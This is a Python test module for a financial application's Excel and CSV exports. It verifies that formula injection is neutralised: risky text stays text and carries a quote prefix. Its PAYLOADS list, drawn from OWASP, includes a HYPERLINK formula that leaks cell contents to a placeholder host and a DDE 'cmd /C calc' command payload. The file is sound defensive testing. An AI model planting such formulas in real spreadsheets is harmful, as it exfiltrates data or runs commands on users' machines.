"""Formula injection: every text cell of every Excel export stays text and shows what it was given.

The convention (igemo_fin.exports.safe_export): an Excel export stores a risky text (starting with
``= + - @``, tab or CR, also as an OOXML escape) **unchanged** as a text cell with Excel's quote
prefix; a plain-text export puts one apostrophe in front (:func:`neutralise`, undone by
:func:`restore`). So after reloading an .xlsx with openpyxl:

- no cell that holds one of our texts is a formula (``data_type != 'f'``);
- the visible text equals the original (OOXML escapes of control characters decoded, as Excel
  and LibreOffice show them; openpyxl returns them as stored);
- every text cell that starts with a risky character carries the quote prefix, so editing it in
  Excel keeps it text.

The exports covered: igemo_fin.exports.workbook_writer.write_workbook (and project_export, which uses it),
igemo_fin.exports.journal_xlsx.journal_xlsx, igemo_fin.exports.statements.municipality_statement_xlsx,
igemo_fin.exports.boardpack_xlsx.board_pack_xlsx.
"""

from __future__ import annotations

import datetime as dt
import io
import re
from dataclasses import replace

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import build_sheets, flat_credit, flows, project
from igemo_fin.exports.boardpack_xlsx import board_pack_xlsx
from igemo_fin.valuation.evaluate import evaluate
from igemo_fin.exports.project_export import project_workbook
from igemo_fin.exports.journal_xlsx import journal_xlsx
from igemo_fin.exports.statements import municipality_statement_xlsx
from igemo_fin.obligations.journal import JOURNAL_COLUMNS
from igemo_fin.exports.safe_export import (RISKY_START, SafeXlsxWriter, is_risky, neutralise, restore,
                                   set_openpyxl_text)
from igemo_fin.inputs.workbook import read_workbook
from igemo_fin.exports.workbook_writer import workbook_bytes, write_workbook

ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\ufffe\uffff]")
CONTROL_ESCAPE = re.compile(r"_x(00[01][0-9A-Fa-f]|FFF[EF])_")

#: Payloads from the OWASP CSV-injection page and friends.
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Klik hier")',
    "=cmd|' /C calc'!A0",
    "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\n", "-",
    "＝1+1",  # full-width equals sign: not a formula to Excel, written as is
    "'=already quoted", "_x003D_1+1", "=" * 3, "=\u00e9\u00e8\u20ac", "-€ 1.234,56",
]

_plain = st.text(st.characters(exclude_categories=("Cs",)), max_size=30).filter(
    lambda t: not ESCAPE.search(t))
texts = st.one_of(
    _plain,
    st.builds(lambda head, tail: head + tail, st.sampled_from(RISKY_START), _plain),
    st.sampled_from(PAYLOADS),
)
non_empty = texts.filter(lambda t: t.strip() != "")


def visible(value) -> str:
    """What Excel shows for a cell value read by openpyxl.

    openpyxl decodes the escaped underscore of a literal ``_x005F_x0041_`` (Excel shows ``_x0041_``)
    but leaves the escapes of control characters (``_x0001_``, Excel shows the character); the
    generated texts hold no literal escape of a control character, so decoding those is exact.
    """
    if value is None:
        return ""
    return CONTROL_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), str(value))


def cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def formula_cells(data: bytes) -> set[tuple[str, str]]:
    return {(title, cell.coordinate) for title, cell in cells(data) if cell.data_type == "f"}


def check_texts_are_text(data: bytes, originals: list[str], *, allowed_formulas: set = frozenset()) -> None:
    """No formula but the allowed ones; each original shows, exactly, in some text cell."""
    shown = []
    for title, cell in cells(data):
        if cell.data_type == "f":
            assert (title, cell.coordinate) in allowed_formulas, (title, cell.coordinate, cell.value)
            continue
        if isinstance(cell.value, str):
            shown.append(visible(cell.value))
    for text in originals:
        if text == "":
            continue
        assert any(text == s or text in s for s in shown), f"{text!r} is not shown"


def check_risky_texts_are_quoted(data: bytes) -> None:
    for title, cell in cells(data):
        if cell.data_type == "s" and isinstance(cell.value, str) and visible(cell.value).startswith(RISKY_START):
            assert cell.quotePrefix, f"{title}!{cell.coordinate} {cell.value!r} has no quote prefix"


# --------------------------------------------------------------------------- the helper itself

class TestNeutralise:
    @given(texts)
    def test_restore_undoes_neutralise(self, text):
        assert restore(neutralise(text)) == text

    @given(texts)
    def test_neutralised_text_is_never_a_formula_in_csv(self, text):
        out = neutralise(text)
        assert not out.startswith(RISKY_START)
        assert not is_risky(out)
        assert out == text or out == "'" + text

    @pytest.mark.parametrize("text, expected", [
        ("=1+1", "'=1+1"), ("+32 15 00 00 00", "'+32 15 00 00 00"), ("-5", "'-5"), ("@x", "'@x"),
        ("\t=x", "'\t=x"), ("\r=x", "'\r=x"), ("_x003D_x", "'_x003D_x"), ("'=x", "''=x"),
        ("'t Veld", "'t Veld"), ("Kouterhof", "Kouterhof"), ("", ""), (None, ""), ("＝1", "＝1"),
    ])
    def test_examples(self, text, expected):
        assert neutralise(text) == expected

    @given(texts)
    @settings(max_examples=60)
    def test_xlsxwriter_cell(self, text):
        buffer = io.BytesIO()
        safe = SafeXlsxWriter.open(buffer)
        sheet = safe.book.add_worksheet("Blad")
        safe.text(sheet, 0, 0, text, bold=True)
        safe.merged_text(sheet, 2, 0, 3, text)
        safe.book.close()
        data = buffer.getvalue()
        check_texts_are_text(data, [text])
        check_risky_texts_are_quoted(data)

    @given(texts)
    @settings(max_examples=60)
    def test_openpyxl_cell(self, text):
        book = openpyxl.Workbook()
        set_openpyxl_text(book.active["A1"], text)
        buffer = io.BytesIO()
        book.save(buffer)
        data = buffer.getvalue()
        check_texts_are_text(data, [text])
        check_risky_texts_are_quoted(data)


# --------------------------------------------------------------------------- the project's exports

def frame_of(values: list[str], header: str) -> pd.DataFrame:
    return pd.DataFrame({header: values, "getal": range(len(values))})


class TestWorkbookWriter:
    """write_workbook (templates, demo data, project_export, params_xlsx) writes text as text..."""

    @given(st.lists(texts, min_size=1, max_size=8), texts.filter(lambda t: t.strip() != ""))
    @settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
    def test_no_formula_and_text_unchanged(self, values, header):
        buffer = io.BytesIO()
        write_workbook({"blad": frame_of(values, header)}, buffer)
        check_texts_are_text(buffer.getvalue(), values + [header])

    @given(st.lists(texts, min_size=1, max_size=8), texts.filter(lambda t: t.strip() != ""))
    @settings(max_examples=30, suppress_health_check=[HealthCheck.too_slow], deadline=None)
    def test_risky_texts_get_the_quote_prefix(self, values, header):
        check_risky_texts_are_quoted(workbook_bytes({"blad": frame_of(values + PAYLOADS[:3], header)}))


def small_portfolio():
    sheets = build_sheets(
        [project("A", startjaar=2021, eindjaar=2026, winstdeling_gemeente_pct=20, risicodeling_gemeente_pct=50),
         project("B", gemeente="Bonheiden", startjaar=2022, eindjaar=2027, risicodeling_gemeente_pct=30)],
        flows(("A", "prognose", 2021, "verwerving", 1_000_000), ("A", "prognose", 2023, "verkoop", 700_000),
              ("A", "prognose", 2026, "verkoop", 600_000),
              ("B", "prognose", 2022, "verwerving", 2_000_000), ("B", "prognose", 2025, "verkoop", 900_000),
              ("B", "prognose", 2027, "verkoop", 800_000)),
        credit=flat_credit(2015, 2035, rate=3.0),
        instellingen=pd.DataFrame({"parameter": ["waarderingsjaar"], "waarde": [2024]}),
    )
    return read_workbook(workbook_bytes(sheets), filename="klein.xlsx")


BASE = small_portfolio()


def renamed(naam: str, gemeente: str):
    projects = BASE.projects.copy()
    projects.loc[0, "naam"] = naam
    projects.loc[0, "gemeente"] = gemeente
    portfolio = replace(BASE, projects=projects)
    return portfolio, evaluate(portfolio)


class TestProjectExport:
    @given(texts, non_empty)
    @settings(max_examples=30, deadline=None)
    def test_no_formula_and_text_unchanged(self, naam, gemeente):
        portfolio, ev = renamed(naam, gemeente)
        check_texts_are_text(project_workbook(ev, "A"), [naam, gemeente])

    def test_risky_texts_get_the_quote_prefix(self):
        portfolio, ev = renamed(PAYLOADS[0], "@Mechelen")
        check_risky_texts_are_quoted(project_workbook(ev, "A"))


class TestProvisions:
    @given(st.lists(texts, min_size=7, max_size=7))
    @settings(max_examples=40, deadline=None)
    def test_journal(self, values):
        code, gemeente, soort, rekening, naam, omschrijving, opmerking = values
        journal = pd.DataFrame([{
            "boeking": 1, "boekjaar": 2023, "datum": dt.date(2023, 12, 31), "project_code": code,
            "gemeente": gemeente, "soort": soort, "rekening": rekening, "rekening_naam": naam,
            "debet": 12.34, "credit": 0.0, "omschrijving": omschrijving, "opmerking": opmerking}],
            columns=list(JOURNAL_COLUMNS))
        data = journal_xlsx(journal, title=omschrijving or "Journaal")
        check_texts_are_text(data, values)
        check_risky_texts_are_quoted(data)

    @given(texts, non_empty.filter(lambda t: not CONTROL.search(t) and len(t.encode("utf-16-le")) <= 62))
    @settings(max_examples=30, deadline=None)
    def test_municipality_statement(self, naam, gemeente):
        portfolio, ev = renamed(naam, gemeente)
        data = municipality_statement_xlsx(portfolio, ev, gemeente)
        check_texts_are_text(data, [naam, gemeente])
        check_risky_texts_are_quoted(data)

    def test_municipality_with_a_control_character(self):
        portfolio, ev = renamed("Project A", "Mechelen\x1b")
        data = municipality_statement_xlsx(portfolio, ev, "Mechelen\x1b")
        check_texts_are_text(data, ["Project A"])

    def test_municipality_with_emoji(self):
        gemeente = "0" * 20 + "\U0001F3D7" * 6
        portfolio, ev = renamed("Project A", gemeente)
        check_texts_are_text(municipality_statement_xlsx(portfolio, ev, gemeente), [gemeente])


class TestBoardPack:
    BENIGN = renamed("Project A", "Mechelen")
    FORMULAS = formula_cells(board_pack_xlsx(*BENIGN))

    @given(texts, non_empty)
    @settings(max_examples=25, deadline=None)
    def test_texts_are_text_and_formulas_are_only_ours(self, naam, gemeente):
        portfolio, ev = renamed(naam, gemeente)
        data = board_pack_xlsx(portfolio, ev)
        check_texts_are_text(data, [naam, gemeente], allowed_formulas=self.FORMULAS)
        check_risky_texts_are_quoted(data)
        assert formula_cells(data) == self.FORMULAS

    @given(texts, non_empty)
    @settings(max_examples=5, deadline=None)
    def test_pdf_takes_any_text(self, naam, gemeente):
        """The PDF prints names as text: no markup, no mathtext, no crash on control characters."""
        from igemo_fin.exports.boardpack_pdf import board_pack_pdf

        portfolio, ev = renamed(naam, gemeente)
        assert board_pack_pdf(portfolio, ev, made_on=dt.date(2024, 1, 2)).startswith(b"%PDF-")

    def test_payloads(self):
        for payload in PAYLOADS:
            portfolio, ev = renamed(payload, payload if payload.strip() else "x")
            data = board_pack_xlsx(portfolio, ev)
            check_texts_are_text(data, [payload], allowed_formulas=self.FORMULAS)
            check_risky_texts_are_quoted(data)
